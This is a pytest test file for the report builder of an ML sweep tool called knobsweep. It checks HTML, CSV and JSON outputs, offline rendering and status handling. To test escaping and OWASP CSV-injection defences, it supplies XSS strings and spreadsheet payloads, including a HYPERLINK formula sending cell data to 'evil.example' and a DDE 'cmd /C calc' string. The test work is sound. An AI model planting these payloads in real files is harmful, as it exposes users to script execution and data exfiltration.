"""The report: real result files in a temp dir -> report.html, summary.csv, summary.json."""

from __future__ import annotations

import csv
import html as html_lib
import json
import math
import re
import subprocess
import sys
from pathlib import Path

import pytest

from knobsweep import layout
from knobsweep.io import atomic_write_json
from knobsweep.report.build import build_report, collect_experiment, inert_in_spreadsheets, report_paths
from knobsweep.spec import Experiment, Run, StageKeys

XSS = "<script>alert(1)</script>"
ESCAPED_XSS = html_lib.escape(XSS, quote=False)

BASE_CONFIG = {
    "model": {"name": "tiny", "lora": {"rank": 8, "alpha": 16}},
    "train": {"loss": "grpo", "learning_rate": 1e-4, "batch_size": 8},
    "rollout": {"n": 8, "temperature": 0.7},
    "reward": {"name": "gsm8k", "format_weight": 0.1},
    "eval": {"temperature": 0.0, "max_tokens": 512},
    "seed": 0,
}


def config_with(**changes: object) -> dict:
    config = json.loads(json.dumps(BASE_CONFIG))
    for knob, value in changes.items():
        section, name = knob.split("__")
        config[section][name] = value
    return config


def make_run(name: str, changed: dict, suffix: str, config: dict | None = None) -> Run:
    keys = StageKeys(data="d0", model="m0", train=f"train-{suffix}", eval=f"eval-{suffix}", base_eval="base0")
    return Run(name=name, changed=changed, seed=0, config=config or BASE_CONFIG, keys=keys)


def write_train(root: Path, run: Run, rewards: list[float], state: str = "COMPLETED", reason: str = "") -> None:
    key = run.keys.train
    metrics = layout.path(layout.TRAIN_METRICS, root, key=key)
    metrics.parent.mkdir(parents=True, exist_ok=True)
    lines = [
        {
            "step": step,
            "elapsed_s": 2.0 * step,
            "reward": reward,
            "loss": 0.5 / step,
            "kl": 0.01 * step,
            "grad_norm": 1.0,
            "reward/correct": reward,
            "reward/format": 1.0,
        }
        for step, reward in enumerate(rewards, start=1)
    ]
    # TRL's end-of-training line: same step, no reward; must not erase the step's reward.
    lines.append({"step": len(rewards), "train_runtime": 2.0 * len(rewards), "train_loss": 0.1})
    metrics.write_text("".join(json.dumps(line) + "\n" for line in lines))
    atomic_write_json(
        layout.path(layout.TRAIN_STATUS, root, key=key),
        {
            "state": state,
            "reason": reason,
            "started_at": "2025-01-01T00:00:00Z",
            "updated_at": "2025-01-01T00:01:00Z",
            "step": len(rewards),
        },
    )


EVAL_ROWS = 100


def write_eval(root: Path, key: str, score: float, completion: str = "#### 42") -> None:
    """An eval of EVAL_ROWS prompts: the first round(score x EVAL_ROWS) right (score 1), the rest wrong,
    so the same prompts are right in every run that scores at least as high (paired data)."""
    right = round(score * EVAL_ROWS)
    atomic_write_json(
        layout.path(layout.EVAL_SUMMARY, root, key=key),
        {
            "score": score,
            "parts": {"correct": score - 0.05, "format": 0.9},
            "n": EVAL_ROWS,
            "n_valid": EVAL_ROWS,
            "n_correct": right,
            "parse_failures": 2,
            "backend": "hf",
            "model": "m",
            "tokens_per_s": 100.0,
            "elapsed_s": 3.0,
        },
    )
    samples = layout.path(layout.EVAL_SAMPLES, root, key=key)
    rows = [
        {
            "row_id": f"test-{i}",
            "prompt": [{"role": "user", "content": f"What is {i}+1?"}],
            "completion": completion,
            "ground_truth": str(i + 1),
            "score": float(i < right),
            "reason": "ok",
            "valid": True,
            "parts": {"correct": float(i < right), "format": 1},
        }
        for i in range(EVAL_ROWS)
    ]
    samples.write_text("".join(json.dumps(row) + "\n" for row in rows))


@pytest.fixture
def three_runs(tmp_path: Path) -> tuple[Experiment, Path]:
    runs = (
        make_run("baseline", {}, "a"),
        make_run("lr=3e-4", {"train.learning_rate": 3e-4}, "b", config_with(train__learning_rate=3e-4)),
        make_run("temp=1", {"rollout.temperature": 1.0}, "c", config_with(rollout__temperature=1.0)),
    )
    experiment = Experiment(
        name="exp3",
        path=tmp_path / "exp3.yaml",
        runs=runs,
        hypotheses={"train.learning_rate": "a higher LR learns faster", "rollout.temperature": "more exploration"},
        mode="ofat",
    )
    steps = range(1, 11)
    write_train(tmp_path, runs[0], [0.1 * s for s in steps])  # final 1.0, first20 .15, last20 .95
    write_train(tmp_path, runs[1], [0.05 * s for s in steps])  # final 0.5
    write_train(tmp_path, runs[2], [0.12 * s for s in steps])  # final 1.2
    write_eval(tmp_path, "eval-a", 0.40)
    write_eval(tmp_path, "eval-b", 0.55)
    write_eval(tmp_path, "eval-c", 0.30)
    write_eval(tmp_path, "base0", 0.10)
    return experiment, tmp_path


def figure_data(page: str, figure_id: str) -> dict:
    match = re.search(
        rf'<script type="application/json" class="figure-data" data-target="{figure_id}"[^>]*>(.*?)</script>',
        page,
        re.S,
    )
    assert match, f"no figure {figure_id}"
    return json.loads(match.group(1))


def cells(page: str, column: str) -> list[str]:
    """The opening <td ...> tags of a column in the runs table."""
    runs_table = page.split('<table class="runs">', 1)[1].split("</table>", 1)[0]
    return re.findall(rf'<td[^>]*data-column="{re.escape(column)}"[^>]*>', runs_table)


def summary_rows(root: Path, name: str) -> tuple[list[dict], list[dict]]:
    paths = report_paths(name, root)
    data = json.loads(paths["json"].read_text())
    with paths["csv"].open(newline="") as handle:
        csv_rows = list(csv.DictReader(handle))
    return data["rows"], csv_rows


def test_report_three_runs(three_runs: tuple[Experiment, Path]) -> None:
    experiment, root = three_runs
    paths = build_report(experiment, root)
    assert paths["html"] == root / "results" / "exp3" / "report.html"
    page = paths["html"].read_text(encoding="utf-8")
    print(f"\nreport.html for 3 runs: {len(page.encode()) / 1e6:.2f} MB")

    # Offline: no external script/style tags, and no URL outside the embedded plotly bundle.
    assert not re.search(r"<script[^>]*\bsrc\s*=", page, re.I)
    assert not re.search(r"<link[^>]*\bhref\s*=", page, re.I)
    assert "Plotly.newPlot" in page and "<script>" in page
    assert "http://" not in page and "https://" not in page  # plotly.js is gzipped + base64 text
    bundle = re.search(r'<script type="application/octet-stream" id="plotly-gz">([^<]*)</script>', page)
    assert bundle, "no embedded plotly.js"
    import base64
    import gzip

    assert b"Plotly" in gzip.decompress(base64.b64decode(bundle.group(1)))[:100_000]
    assert len(page.encode()) < 2_500_000

    # Header.
    assert "exp3" in page and str(experiment.path) in page and "knobsweep" in page
    assert "learning_rate: 0.0001" in page  # the baseline's resolved config as YAML

    # One reward (and loss) trace per run.
    reward = figure_data(page, "fig-reward")
    assert [trace["name"] for trace in reward["data"]] == ["baseline", "lr=3e-4", "temp=1"]
    assert reward["data"][0]["y"] == pytest.approx([0.1 * s for s in range(1, 11)])
    assert len(figure_data(page, "fig-loss")["data"]) == 3

    # Eval bars (one trace per run) with the base model as a horizontal reference line.
    evaluation = figure_data(page, "fig-eval")
    assert [t["x"][0] for t in evaluation["data"]] == ["baseline", "lr=3e-4", "temp=1"]
    assert [t["y"][0] for t in evaluation["data"]] == pytest.approx([0.40, 0.55, 0.30])
    assert [shape["y0"] for shape in evaluation["layout"]["shapes"]] == pytest.approx([0.10])

    # Changed-knob cells carry the class; others (and the baseline row) do not.
    lr_cells = cells(page, "train.learning_rate")
    assert ["changed" in c for c in lr_cells] == [False, True, False]
    temp_cells = cells(page, "rollout.temperature")
    assert ["changed" in c for c in temp_cells] == [False, False, True]
    assert "a higher LR learns faster" in page and "more exploration" in page
    eval_deltas = cells(page, "delta_eval_score")  # one seed per side: nothing is decided
    assert "one seed per side" in eval_deltas[1] and "one seed per side" in eval_deltas[2]

    rows, csv_rows = summary_rows(root, "exp3")
    by_name = {row["run"]: row for row in rows}
    assert list(by_name) == ["baseline", "lr=3e-4", "temp=1", "base model"]
    base, lr, temp, ref = (by_name[n] for n in by_name)
    assert [row["reference"] for row in rows] == [False, False, False, True]
    assert base["final_reward"] == pytest.approx(1.0)
    assert base["reward_first20"] == pytest.approx(0.15)
    assert base["reward_last20"] == pytest.approx(0.95)
    assert csv_rows[0]["reward_first20"] == "0.15"  # no float noise in the exports
    assert base["steps"] == 10 and base["train_time_s"] == pytest.approx(20.0)
    assert base["status"] == "COMPLETED" and base["seed"] == 0
    assert base["eval_correct"] == pytest.approx(0.35) and base["eval_format"] == pytest.approx(0.9)
    assert base["delta_eval_score"] == pytest.approx(0.0)
    assert lr["delta_eval_score"] == pytest.approx(0.15)
    assert temp["delta_eval_score"] == pytest.approx(-0.10)
    assert lr["delta_final_reward"] == pytest.approx(-0.5)
    assert temp["delta_final_reward"] == pytest.approx(0.2)
    assert lr["changed"] == "train.learning_rate=3e-4" and lr["train.learning_rate"] == 3e-4
    assert lr["hypothesis"] == "a higher LR learns faster"
    assert ref["eval_score"] == pytest.approx(0.10) and ref["status"] == "evaluated"
    # Cost: 20 s of training and 3 s of eval on one CPU core (the tiny model's default resources).
    assert base["cpu_hours"] == pytest.approx(23 / 3600) and base["gpu_hours"] is None
    assert ref["cpu_hours"] == pytest.approx(3 / 3600)
    assert "Measured cost: 0.02 CPU-h in all: training and eval of 3 runs, and 1 base-model eval." in page
    assert ref["delta_eval_score"] == pytest.approx(-0.30)

    # CSV: same rows and columns as the JSON.
    assert [row["run"] for row in csv_rows] == list(by_name)
    assert list(csv_rows[0]) == json.loads(paths["json"].read_text())["columns"]
    for json_row, csv_row in zip(rows, csv_rows):
        for column, value in json_row.items():
            if isinstance(value, float):
                assert float(csv_row[column]) == pytest.approx(value), column
            elif value is None:
                assert csv_row[column] == "", column
            else:
                assert csv_row[column] == str(value), column

    # No temp files left behind by the atomic writes.
    assert sorted(p.name for p in paths["html"].parent.iterdir()) == [
        "curves.csv",
        "report.html",
        "runs",
        "summary.csv",
        "summary.json",
    ]


def test_missing_failed_and_partial_runs_still_appear(three_runs: tuple[Experiment, Path]) -> None:
    experiment, root = three_runs
    never = make_run("never-run", {"train.batch_size": 16}, "never", config_with(train__batch_size=16))
    failed = make_run("crashed", {"train.batch_size": 32}, "failed", config_with(train__batch_size=32))
    write_train(root, failed, [0.2, 0.3], state="FAILED", reason="CUDA out of memory at step 3")
    running = make_run("half", {"train.batch_size": 4}, "half", config_with(train__batch_size=4))
    write_train(root, running, [0.2], state="RUNNING")
    metrics = layout.path(layout.TRAIN_METRICS, root, key="train-half")
    with metrics.open("a") as handle:
        handle.write('{"step": 2, "elapsed_s": 4.0, "rew')  # torn last line of a live writer
    experiment = Experiment(
        name=experiment.name,
        path=experiment.path,
        runs=experiment.runs + (never, failed, running),
        hypotheses=experiment.hypotheses,
        mode=experiment.mode,
    )
    layout.path(layout.EVAL_SUMMARY, root, key="base0").unlink()  # base model not evaluated yet

    paths = build_report(experiment, root)
    page = paths["html"].read_text(encoding="utf-8")
    rows, csv_rows = summary_rows(root, "exp3")
    by_name = {row["run"]: row for row in rows}
    assert by_name["never-run"]["status"] == "not run"
    assert by_name["never-run"]["final_reward"] is None and by_name["never-run"]["eval_score"] is None
    assert by_name["never-run"]["delta_eval_score"] is None
    assert by_name["crashed"]["status"] == "FAILED"
    assert by_name["crashed"]["reason"] == "CUDA out of memory at step 3"
    assert by_name["crashed"]["steps"] == 2 and by_name["crashed"]["eval_score"] is None
    assert by_name["half"]["status"] == "RUNNING" and by_name["half"]["steps"] == 1
    assert by_name["base model"]["status"] == "not run" and by_name["base model"]["eval_score"] is None
    assert len(csv_rows) == 7
    assert [r["train.batch_size"] for r in csv_rows] == ["8", "8", "8", "16", "32", "4", ""]
    assert "CUDA out of memory at step 3" in page and "never-run" in page
    assert "status-failed" in page and "status-not-run" in page
    reward = figure_data(page, "fig-reward")
    assert [t["name"] for t in reward["data"]] == ["baseline", "lr=3e-4", "temp=1", "crashed", "half"]
    assert "shapes" not in figure_data(page, "fig-eval")["layout"]  # no base model line without its eval


def test_user_text_is_escaped(tmp_path: Path) -> None:
    bad = make_run(XSS, {"rollout.temperature": XSS}, "x", config_with(rollout__temperature=XSS))
    experiment = Experiment(
        name="xss",
        path=tmp_path / "xss.yaml",
        runs=(make_run("baseline", {}, "a"), bad),
        hypotheses={"rollout.temperature": XSS},
        mode="ofat",
    )
    write_train(tmp_path, bad, [0.1, 0.2], state="FAILED", reason=XSS)
    write_eval(tmp_path, "eval-x", 0.5, completion=f"the answer {XSS} #### 4")
    page = build_report(experiment, tmp_path)["html"].read_text(encoding="utf-8")
    assert XSS not in page
    assert "alert(1)</script>" not in page
    assert page.count(ESCAPED_XSS) >= 5  # run name, knob value, hypothesis, reason, completion
    assert f"the answer {ESCAPED_XSS} #### 4" in page
    # Plotly renders some HTML in labels: trace names are escaped text, too.
    assert figure_data(page, "fig-reward")["data"][0]["name"] == ESCAPED_XSS


def test_empty_experiment_renders(tmp_path: Path) -> None:
    experiment = Experiment(name="empty", path=tmp_path / "e.yaml", runs=(make_run("baseline", {}, "a"),))
    page = build_report(experiment, tmp_path)["html"].read_text(encoding="utf-8")
    assert "No run has logged reward yet" in page and "No eval results yet" in page
    rows, _ = summary_rows(tmp_path, "empty")
    assert [(r["run"], r["status"]) for r in rows] == [("baseline", "not run"), ("base model", "not run")]


def test_collect_frames(three_runs: tuple[Experiment, Path]) -> None:
    experiment, root = three_runs
    collected = collect_experiment(experiment, root)
    assert collected.baseline == "baseline"
    assert collected.knobs == ["train.learning_rate", "rollout.temperature"]
    assert set(collected.metrics["run"]) == {"baseline", "lr=3e-4", "temp=1"}
    assert len(collected.metrics) == 30
    assert collected.warnings == []
    assert not math.isnan(collected.metrics["reward"].sum())


def test_cli(tmp_path: Path) -> None:
    spec = tmp_path / "clisweep.yaml"
    spec.write_text(
        "baseline:\n  model: {name: tiny}\n  data: {train_size: 8, eval_size: 4}\n"
        "sweep:\n  train.learning_rate: [0.0003]\n"
        "hypotheses:\n  train.learning_rate: faster\n"
    )
    from knobsweep.spec import load_experiment

    experiment = load_experiment(spec)
    write_train(tmp_path, experiment.baseline, [0.1, 0.2, 0.3])
    result = subprocess.run(
        [sys.executable, "-m", "knobsweep.report", str(spec), "--results-root", str(tmp_path)],
        capture_output=True,
        text=True,
        check=False,
    )
    assert result.returncode == 0, result.stderr
    html_path = tmp_path / "results" / "clisweep" / "report.html"
    assert result.stdout.splitlines()[0] == str(html_path)
    rows = json.loads((tmp_path / "results" / "clisweep" / "summary.json").read_text())["rows"]
    assert [r["status"] for r in rows] == ["COMPLETED", "not run", "not run"]

    missing = subprocess.run(
        [sys.executable, "-m", "knobsweep.report", str(tmp_path / "nope.yaml")],
        capture_output=True,
        text=True,
        check=False,
    )
    assert missing.returncode == 2 and "error:" in missing.stderr and "Traceback" not in missing.stderr


def test_one_reference_row_per_base_eval_and_no_baseline(tmp_path: Path) -> None:
    greedy = make_run("greedy", {"eval.temperature": 0.0}, "g")
    hot = make_run("hot-eval", {"eval.temperature": 1.0}, "h", config_with(eval__temperature=1.0))
    hot = Run(hot.name, hot.changed, hot.seed, hot.config, StageKeys("d0", "m0", "train-g", "eval-h", "base1"))
    write_train(tmp_path, greedy, [0.1, 0.2])
    write_eval(tmp_path, "base0", 0.10)
    write_eval(tmp_path, "base1", 0.05)
    write_eval(tmp_path, "eval-h", 0.20)
    experiment = Experiment(name="refs", path=tmp_path / "r.yaml", runs=(greedy, hot))  # no baseline run
    page = build_report(experiment, tmp_path)["html"].read_text(encoding="utf-8")
    rows, csv_rows = summary_rows(tmp_path, "refs")
    assert [(r["run"], r["reference"]) for r in rows] == [
        ("greedy", False),
        ("hot-eval", False),
        ("base model", True),
        ("base model [base1]", True),
    ]
    assert rows[1]["status"] == "COMPLETED"  # shares the training job of "greedy"
    assert all(r["delta_eval_score"] is None for r in rows)
    assert [s["y0"] for s in figure_data(page, "fig-eval")["layout"]["shapes"]] == pytest.approx([0.10, 0.05])
    assert "no baseline run" in page


# ---------------------------------------------------------------- a richer sweep (also used by test_browser)

IMG_XSS = "<img src=x onerror=alert(1)>"


def write_full_eval(
    root: Path,
    key: str,
    strict: float,
    flexible: float,
    completion: str = "#### 42",
    parser: str = "strict",
    n: int = 40,
) -> None:
    """A summary.json as the eval stage writes it now: parsers, CIs (built through summarize)."""
    from knobsweep.evaluate import summarize

    records = []
    for i in range(n):
        ok_strict, ok_flex = i < strict * n, i < flexible * n
        parsers = {
            "strict": {"answer": "1" if ok_strict else None, "correct": ok_strict},
            "flexible": {"answer": "1" if ok_flex or i % 2 else None, "correct": ok_flex},
            "math_verify": {"answer": "1" if ok_flex else None, "correct": ok_flex},
        }
        records.append(
            {
                "row_id": f"test-{i}",
                "sample": 0,
                "prompt": [{"role": "user", "content": f"q{i} {XSS}"}],
                "completion": completion if i < 3 else f"answer {i}",
                "ground_truth": "1",
                "score": 1.0 if ok_strict else 0.1 * ok_flex,
                "reason": "ok",
                "valid": True,
                "parts": {"correct": float(ok_strict), "format": 1.0},
                "parsers": parsers,
            }
        )
    summary = summarize(records, 1, parser)
    summary.update(backend="hf", model="m", tokens_per_s=100.0, elapsed_s=1.0)
    atomic_write_json(layout.path(layout.EVAL_SUMMARY, root, key=key), summary)
    layout.path(layout.EVAL_SAMPLES, root, key=key).write_text("".join(json.dumps(r) + "\n" for r in records))


def write_rollouts(root: Path, run: Run, steps: int, completion: str = "#### 1") -> None:
    path = layout.path(layout.TRAIN_DIR, root, key=run.keys.train) / "rollouts.jsonl"
    lines = [
        {
            "step": s,
            "row_id": f"train-{s}-{j}",
            "prompt": [{"role": "user", "content": f"p{s}"}],
            "completion": f"{completion} step {s} sample {j}",
            "score": (s * 7 + j * 3) % 10 / 10,
            "reason": "r",
            "valid": True,
            "metrics": {},
        }
        for s in range(1, steps + 1)
        for j in range(2)
    ]
    path.write_text("".join(json.dumps(line) + "\n" for line in lines))


def write_health(root: Path, run: Run, items: list[dict]) -> None:
    path = layout.path(layout.TRAIN_STATUS, root, key=run.keys.train)
    status = json.loads(path.read_text())
    status["warnings"] = items
    atomic_write_json(path, status)


def rich_sweep(root: Path, steps: int = 30) -> Experiment:
    """baseline, an LR arm, a run whose name and texts are XSS, a FAILED and a CANCELLED run."""
    bad_name = XSS + IMG_XSS
    runs = (
        make_run("baseline", {}, "a"),
        make_run("lr=3e-4", {"train.learning_rate": 3e-4}, "b", config_with(train__learning_rate=3e-4)),
        make_run(bad_name, {"rollout.temperature": 1.0}, "x", config_with(rollout__temperature=1.0)),
        make_run("crashed", {"train.batch_size": 32}, "f", config_with(train__batch_size=32)),
        make_run("cancelled", {"train.batch_size": 4}, "c", config_with(train__batch_size=4)),
    )
    experiment = Experiment(
        name="rich", path=root / "rich.yaml", runs=runs, hypotheses={"rollout.temperature": IMG_XSS}, mode="ofat"
    )
    for index, run in enumerate(runs[:3]):
        write_train(root, run, [0.02 * s + 0.1 * index for s in range(1, steps + 1)])
        write_rollouts(root, run, steps, completion=f"{IMG_XSS} {XSS}")
    write_train(root, runs[3], [0.1, 0.2], state="FAILED", reason=f"CUDA out of memory {XSS}")
    write_train(root, runs[4], [0.1], state="CANCELLED", reason="cancelled by the user")
    write_health(
        root,
        runs[1],
        [
            {"step": 12, "kind": "kl_spike", "message": "KL 3.2 > 1.0"},
            {"step": 20, "kind": "zero_variance", "message": f"all groups equal {XSS}"},
        ],
    )
    write_full_eval(root, "eval-a", 0.40, 0.60)
    write_full_eval(root, "eval-b", 0.45, 0.65)
    write_full_eval(root, "eval-x", 0.90, 0.95, completion=f"{IMG_XSS} {XSS} #### 1", parser="flexible")
    write_full_eval(root, "base0", 0.05, 0.20)
    return experiment


def test_csv_cells_a_spreadsheet_would_run_as_formulas_are_inert(tmp_path: Path) -> None:
    """OWASP CSV injection: text starting with = + - @ (or a tab / CR) gets a leading quote; numbers stay."""
    formula = '=HYPERLINK("http://evil.example/?"&A1,"open")'
    bad = make_run(formula, {"rollout.temperature": "@SUM(1+1)"}, "x", config_with(rollout__temperature="@SUM(1+1)"))
    experiment = Experiment(
        name="csv", path=tmp_path / "csv.yaml", runs=(make_run("baseline", {}, "a"), bad), hypotheses={}, mode="ofat"
    )
    write_train(tmp_path, bad, [0.1, 0.2], state="FAILED", reason="-2+3 cmd|' /C calc'!A0")
    paths = build_report(experiment, tmp_path)
    with open(paths["csv"], newline="") as file:
        rows = {row["run"]: row for row in csv.DictReader(file)}
    row = rows["'" + formula]
    assert row["rollout.temperature"] == "'@SUM(1+1)" and row["reason"] == "'-2+3 cmd|' /C calc'!A0"
    with open(paths["curves"], newline="") as file:
        assert {r["run"] for r in csv.DictReader(file)} >= {"'" + formula}
    assert all(not cell.startswith(("=", "+", "-", "@")) for r in rows.values() for cell in r.values())
    assert inert_in_spreadsheets("-0.5") == "'-0.5" and inert_in_spreadsheets("baseline") == "baseline"
